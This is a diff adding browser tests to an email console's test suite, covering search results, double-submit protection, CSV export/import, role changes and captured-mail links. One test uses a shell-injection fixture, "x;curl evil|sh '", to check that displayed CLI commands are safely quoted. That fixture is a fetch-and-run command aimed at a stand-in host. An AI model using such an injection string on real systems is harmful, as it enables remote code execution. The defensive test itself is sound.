@@ -1,7 +1,9 @@
 /**
  * The queue in the console, in a real browser: what a row shows is what the acts behind its link mean; a count that was
- * confirmed is for what it counted; and a slow server is asked no second time while it answers.
+ * confirmed is for what it counted; and a slow server is asked no second time while it answers. What comes late changes
+ * nothing for who has gone on, and an act is done once.
  */
+import { readFileSync } from 'node:fs'
 import t from 'tap'
 import type { Browser } from 'playwright-core'
 import { goTo, logIn, openPage, skipWithoutChromium, startBrowser, type WatchedPage } from '../support/browser.ts'
@@ -148,4 +150,140 @@ t.test('a server that takes long is not asked again while it answers', { skip: s
   await page.clock.runFor(11_000)
   await until('each table has asked once more', () => asked.length === 8)
   t.same(watched.faults, [])
+})
+
+const search = async ({ page }: WatchedPage, text: string): Promise<void> => {
+  await page.fill('input[name=q]', text)
+  await page.press('input[name=q]', 'Enter')
+}
+
+t.test('under a question stands no answer to another one', { skip: skipWithoutChromium }, async (t) => {
+  for (const email of ['gone@example.com', 'left@example.com']) await sandbox.ask('POST', '/v1/suppressions', { email })
+  const watched = await loggedIn()
+  const { page } = watched
+  await page.clock.install()
+  await open(watched, 'suppressions')
+  await page.waitForSelector('td:has-text("gone@example.com")')
+  await page.route('**/v1/suppressions?email=bad*', (route) => route.fulfill({ status: 500, json: {} }))
+  await search(watched, 'bad')
+  await page.waitForSelector('p.problem')
+  t.equal(await page.locator('td').count(), 0, 'the rows of the question before are gone')
+
+  await search(watched, 'gone@example.com')
+  await page.click('td button:has-text("Remove")')
+  await search(watched, 'left@example.com')
+  await page.waitForSelector('td:has-text("left@example.com")')
+  await page.clock.runFor(11_000)
+  await page.waitForSelector('text=gone@example.com was taken off the list.')
+  await page.waitForLoadState('networkidle')
+  t.same(await page.locator('td[data-head=Address]').allTextContents(), ['left@example.com'])
+  t.equal(await page.locator('.waiting').count(), 0)
+})
+
+t.test('an act that ends later leads nobody away', { skip: skipWithoutChromium }, async (t) => {
+  await sandbox.ask('POST', '/v1/domains', { domain: 'away.test' })
+  const watched = await loggedIn()
+  const { page } = watched
+  await page.clock.install()
+  await open(watched, 'domains/away.test')
+  await page.click('button:text-is("Remove")')
+  await page.waitForSelector('text=away.test will be removed')
+  await page.click('nav a:has-text("Queue")')
+  await page.clock.runFor(11_000)
+  await page.waitForSelector('text=away.test was removed.')
+  t.match(page.url(), /console\/queue$/)
+  t.same(watched.faults, [])
+})
+
+t.test('whoever presses twice makes one key', { skip: skipWithoutChromium }, async (t) => {
+  const watched = await loggedIn()
+  const { page } = watched
+  await open(watched, 'people')
+  await page.click('summary:has-text("Make a key")')
+  await page.fill('label:has-text("What it is for") input', 'twice')
+  const answer = Promise.withResolvers<void>()
+  await page.route('**/v1/keys', async (route) => {
+    if (route.request().method() === 'POST') await answer.promise
+    await route.continue()
+  })
+  await page.dblclick('button:has-text("Make the key")')
+  await page.click('button:has-text("Make the key")')
+  answer.resolve()
+  await page.waitForSelector('text=The key, shown only now')
+  await page.dblclick('button:has-text("Make the key")')
+  await page.waitForLoadState('networkidle')
+  const keys = await sandbox.list<{ name: string }>('/v1/keys')
+  t.equal(keys.filter(({ name }) => name === 'twice').length, 1)
+  await page.dblclick('tr:has-text("twice") button:has-text("Revoke")')
+  t.equal(await page.locator('.said button:has-text("Undo")').count(), 1, 'and undoes it with one press')
+  t.same(watched.faults, [])
+})
+
+t.test('what is exported can be imported', { skip: skipWithoutChromium }, async (t) => {
+  for (const entry of [{ email: '+1555@example.com' }, { email: 'of@example.com', domain: 'sandbox.test' }])
+    await sandbox.ask('POST', '/v1/suppressions', entry)
+  const watched = await loggedIn()
+  const { page } = watched
+  await open(watched, 'suppressions')
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click('button:has-text("Export")')])
+  const file = await download.path()
+  const lines = readFileSync(file, 'utf8').trimEnd().split('\n')
+  t.match(lines, [
+    'email,reason,scope,domain',
+    'of@example.com,manual,all,sandbox.test',
+    "'+1555@example.com,manual,all,",
+  ])
+  const importFile = (csv: string): Promise<void> =>
+    page.setInputFiles('input[type=file]', { name: 'list.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) })
+  await importFile(lines.join('\r\n'))
+  await page.waitForSelector(`text=0 added, ${lines.length - 1} were there, 0 refused.`)
+  await importFile('new@example.com')
+  await page.waitForSelector('text=expected the header line')
+  t.equal((await sandbox.list('/v1/suppressions?email=new@example.com')).length, 0)
+  await importFile(`email\n${'\n'.repeat(20_000)}nobody\n`)
+  await page.waitForSelector('text=The first: line 20002')
+})
+
+t.test('an address that somebody made up harms nobody', { skip: skipWithoutChromium }, async (t) => {
+  const watched = await loggedIn()
+  const { page } = watched
+  const command = async (path: string): Promise<string> => {
+    await open(watched, path)
+    return (await page.locator('.command code').textContent()) ?? ''
+  }
+  const evil = "x;curl evil|sh '"
+  const word = String.raw`'x;curl evil|sh '\'''`
+  t.equal(await command(`queue?provider=${encodeURIComponent(evil)}`), `sternpost queue list --provider ${word}`)
+  t.equal(await command(`messages?q=${encodeURIComponent(`"${evil}"`)}`), `sternpost message list --subject ${word}`)
+  for (const name of ['domain', 'ip', 'message', 'webhook'])
+    t.equal(await command(`${name}s/${encodeURIComponent(evil)}`), `sternpost ${name} show ${word}`)
+  await open(watched, 'queue/%zz')
+  t.equal(await page.textContent('h1'), 'Queue', 'what is no encoding')
+  await open(watched, 'messages?q=constructor:x')
+  await page.waitForSelector('text=constructor: is no field')
+})
+
+t.test('a role that is refused is not shown', { skip: skipWithoutChromium }, async (t) => {
+  const watched = await loggedIn()
+  const { page } = watched
+  await open(watched, 'people')
+  await page.route('**/v1/admin/people/*', (route) => route.fulfill({ status: 409, json: {} }))
+  const select = page.getByLabel('Role of ada').first()
+  const before = await select.inputValue()
+  await select.selectOption('reader')
+  await page.waitForSelector('text=the server answered 409')
+  t.equal(await select.inputValue(), before)
+})
+
+t.test('a captured mail is told the message that it was', { skip: skipWithoutChromium }, async (t) => {
+  const mail = { to: 'delivered@simulator.sternpost.test', from: 'you@sandbox.test' }
+  const captured = (): Promise<{ id: string }[]> => sandbox.list('/dev/inbox')
+  const first = await sandbox.send(mail)
+  await until('it is captured', async () => (await captured()).length === 1)
+  await sandbox.ask('POST', '/dev/clock', { advance: '1m' })
+  await sandbox.send(mail)
+  const watched = await loggedIn()
+  await open(watched, `inbox/${(await captured()).at(-1)?.id}`)
+  const href = await watched.page.getAttribute('a:has-text("The message with its timeline")', 'href')
+  t.equal(href, `/console/messages/${first}`)
 })
